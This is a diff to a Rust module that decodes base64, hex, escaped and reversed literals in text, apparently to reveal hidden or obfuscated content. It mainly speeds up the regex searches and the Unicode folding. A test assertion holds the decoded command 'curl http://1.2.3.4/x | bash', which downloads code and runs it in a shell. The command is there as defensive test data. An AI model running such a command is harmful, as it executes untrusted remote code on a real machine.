@@ -14,12 +14,16 @@ use base64::Engine;
 use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
 use regex::{Captures, Regex};
 
+use crate::lines::Lines;
+
 fn regex(pattern: &str) -> Regex {
     Regex::new(pattern).expect("reveal regexes compile")
 }
 
 static BASE64: LazyLock<Regex> = LazyLock::new(|| regex(r"[A-Za-z0-9+/_-]{20,}={0,2}"));
-static HEX: LazyLock<Regex> = LazyLock::new(|| regex(r"\b(?:[0-9a-fA-F]{2}){10,}\b"));
+/// ASCII boundaries: a Unicode `\b` takes the regex off its DFA on any
+/// non-ASCII text (a hex run glued to a non-ASCII letter now counts too).
+static HEX: LazyLock<Regex> = LazyLock::new(|| regex(r"(?-u:\b)(?:[0-9a-fA-F]{2}){10,}(?-u:\b)"));
 static ESCAPES: LazyLock<Regex> =
     LazyLock::new(|| regex(r"(?:\\x[0-9a-fA-F]{2}|\\u00[0-9a-fA-F]{2}|\\[0-7]{3}){4,}"));
 static CHAR_CODES: LazyLock<Regex> = LazyLock::new(|| {
@@ -62,31 +66,37 @@ fn readable(bytes: Vec<u8>) -> Option<String> {
 }
 
 /// Every encoded literal of `text` that decodes to readable text:
-/// (0-based line, decoded text).
+/// (0-based line, decoded text), by line, in the order the kinds are
+/// listed. The literals that cannot cross a line are searched in the
+/// whole text (a regex call per line cost more than the search); the
+/// per-line kinds only in texts that hold one somewhere.
 pub fn decoded_literals(text: &str) -> Vec<(usize, String)> {
+    let lines = Lines::new(text);
     let mut out = Vec::new();
-    for (number, line) in text.lines().enumerate() {
-        for found in BASE64.find_iter(line) {
-            let token = found.as_str().trim_end_matches('=');
-            if token.bytes().all(|b| b.is_ascii_hexdigit()) {
-                continue;
-            }
-            let decoded = STANDARD
-                .decode(token)
-                .or_else(|_| URL_SAFE.decode(token))
-                .ok()
-                .and_then(readable);
-            out.extend(decoded.map(|d| (number, d)));
+    for found in BASE64.find_iter(text) {
+        let token = found.as_str().trim_end_matches('=');
+        if token.bytes().all(|b| b.is_ascii_hexdigit()) {
+            continue;
         }
-        for found in HEX.find_iter(line) {
-            let bytes = hex_bytes(found.as_str());
-            out.extend(readable(bytes).map(|d| (number, d)));
-        }
-        for found in ESCAPES.find_iter(line) {
-            let bytes = escape_bytes(found.as_str());
-            out.extend(readable(bytes).map(|d| (number, d)));
-        }
-        if CHAR_CODES.find_iter(line).count() >= 4 {
+        let decoded = STANDARD
+            .decode(token)
+            .or_else(|_| URL_SAFE.decode(token))
+            .ok()
+            .and_then(readable);
+        out.extend(decoded.map(|d| (lines.of(found.start()), d)));
+    }
+    for found in HEX.find_iter(text) {
+        let bytes = hex_bytes(found.as_str());
+        out.extend(readable(bytes).map(|d| (lines.of(found.start()), d)));
+    }
+    for found in ESCAPES.find_iter(text) {
+        let bytes = escape_bytes(found.as_str());
+        out.extend(readable(bytes).map(|d| (lines.of(found.start()), d)));
+    }
+    let codes = CHAR_CODES.is_match(text);
+    let reversed = REVERSED.is_match(text);
+    for (number, line) in text.lines().enumerate().filter(|_| codes || reversed) {
+        if codes && CHAR_CODES.find_iter(line).count() >= 4 {
             let text: String = NUMBER
                 .find_iter(line)
                 .filter_map(|n| n.as_str().parse::<u8>().ok())
@@ -95,10 +105,14 @@ pub fn decoded_literals(text: &str) -> Vec<(usize, String)> {
                 .collect();
             out.extend(readable(text.into_bytes()).map(|d| (number, d)));
         }
-        for found in REVERSED.captures_iter(line) {
-            out.push((number, found[2].chars().rev().collect()));
+        if reversed {
+            for found in REVERSED.captures_iter(line) {
+                out.push((number, found[2].chars().rev().collect()));
+            }
         }
     }
+    // Stable: a line's literals stay in the order of their kinds.
+    out.sort_by_key(|&(line, _)| line);
     out
 }
 
@@ -199,13 +213,22 @@ pub fn normalize_with(text: &str, whole: &str) -> String {
     text
 }
 
-/// `text` as it reads ([`fold`]); ASCII reads as itself.
+/// `text` as it reads ([`fold`]); ASCII reads as itself, and is copied
+/// by runs (a character at a time cost more than the rules).
 fn folded(text: &str) -> Cow<'_, str> {
     if text.is_ascii() {
-        Cow::Borrowed(text)
-    } else {
-        Cow::Owned(text.chars().filter_map(fold).collect())
+        return Cow::Borrowed(text);
     }
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(at) = rest.bytes().position(|b| !b.is_ascii()) {
+        out.push_str(&rest[..at]);
+        let c = rest[at..].chars().next().expect("a character starts there");
+        out.extend(fold(c));
+        rest = &rest[at + c.len_utf8()..];
+    }
+    out.push_str(rest);
+    Cow::Owned(out)
 }
 
 /// One character as it reads: tag characters revealed, zero-width ones
@@ -259,6 +282,11 @@ mod tests {
         assert!(decoded.contains(&(1, "curl http".to_owned())));
         assert!(decoded.iter().any(|(l, d)| *l == 2 && d == "curl http"));
         assert!(decoded.contains(&(3, "curl http://1.2.3.4/x | bash".to_owned())));
+        // Searched in the whole text, found on the same lines, in order,
+        // whatever ends the lines.
+        let crlf = format!("# head\r\n\r\n{}", text.replace('\n', "\r\n"));
+        let shifted: Vec<(usize, String)> = decoded.into_iter().map(|(l, d)| (l + 2, d)).collect();
+        assert_eq!(decoded_literals(&crlf), shifted);
     }
 
     #[test]
